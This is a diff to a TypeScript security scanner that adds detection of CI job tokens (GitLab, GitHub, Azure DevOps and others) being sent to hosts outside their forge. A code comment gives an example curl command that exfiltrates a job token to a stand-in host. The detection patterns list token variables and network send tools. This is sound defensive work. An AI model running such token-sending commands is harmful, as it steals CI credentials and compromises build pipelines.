@@ -27,6 +27,28 @@ const DUMPS: { re: RegExp; what: string; own: string[] }[] = [
   { re: /\bfind\b[^\n|]{0,120}-name\s+["']?\.env[*.'"]/, what: "the user's .env files", own: [] },
 ];
 
+/**
+ * Tokens a CI forge issues to each job, by the forge that accepts them: no other service has a
+ * use for them, so one sent to a host outside the forge is stolen (`curl -H "JOB-TOKEN:
+ * $CI_JOB_TOKEN" https://elsewhere`). A self-hosted forge is named like it (`gitlab.corp.example`).
+ */
+const FORGE_TOKENS: { re: RegExp; forge: string; own: string[]; word?: string }[] = [
+  { re: /\$\{?(?:CI_JOB_TOKEN|CI_REGISTRY_PASSWORD|CI_DEPENDENCY_PROXY_PASSWORD|CI_DEPLOY_PASSWORD)\b/, forge: "GitLab", own: ["gitlab.com", "gitlab.io"], word: "gitlab" },
+  { re: /\$\{?(?:GITHUB_TOKEN|GH_TOKEN|ACTIONS_RUNTIME_TOKEN|ACTIONS_ID_TOKEN_REQUEST_TOKEN)\b|\$\{\{\s*(?:secrets\.GITHUB_TOKEN|github\.token)\s*\}\}/, forge: "GitHub", word: "github", own: ["github.com", "githubusercontent.com", "ghcr.io", "githubapp.com"] },
+  { re: /\$\{?SYSTEM_ACCESSTOKEN\b|\$\(System\.AccessToken\)/i, forge: "Azure DevOps", word: "azure", own: ["dev.azure.com", "visualstudio.com", "azure.com"] },
+  { re: /\$\{?(?:CI_NETRC_PASSWORD|DRONE_NETRC_PASSWORD|CIRCLE_OIDC_TOKEN\w*|BUILDKITE_AGENT_ACCESS_TOKEN|BITBUCKET_STEP_OIDC_TOKEN)\b/, forge: "the CI service", own: ["codeberg.org", "gitea.com", "circleci.com", "buildkite.com", "bitbucket.org", "github.com", "gitlab.com"] },
+];
+
+/** A forge's job token on a send line toward a host outside that forge. */
+function forgeTokenSend(line: string): { forge: string; hosts: string[] } | undefined {
+  for (const t of FORGE_TOKENS) {
+    if (!t.re.test(line)) continue;
+    const hosts = outsideHosts(line, t.own).filter((h) => !(t.word && h.includes(t.word)));
+    if (hosts.length) return { forge: t.forge, hosts };
+  }
+  return undefined;
+}
+
 /** Sends out: a body, an upload or a raw connection. */
 const SEND = /\b(?:curl|wget|nc|ncat|socat|scp|rsync|sftp|http|https|xh)\b|\bInvoke-(?:WebRequest|RestMethod)\b/;
 const PRIVATE_HOST = /^(?:localhost|127\.|0\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.)|\.(?:local|internal|lan|localhost|svc|cluster\.local)$/i;
@@ -115,6 +137,8 @@ export function stagedSends(text: string): CodeHit[] {
   let source: { what: string; own: string[]; offset: number } | undefined;
   for (const line of logicalLines(text)) {
     if (/^\s*#/.test(line.text)) continue;
+    const stolen = SEND.test(line.text) ? forgeTokenSend(line.text) : undefined;
+    if (stolen) return [{ ruleId: "SR-EXFIL-009", offset: line.offset, length: line.text.length, message: `Sends the job token ${stolen.forge} issues to this CI job to ${stolen.hosts.slice(0, 3).join(", ")}, a host outside ${stolen.forge}: a complete exfiltration chain.` }];
     const dump = dumpOn(line.text);
     const carries = dump !== undefined || (staged.size > 0 && usesAny(line.text, staged));
     if (dump && !source) source = { ...dump, offset: line.offset };
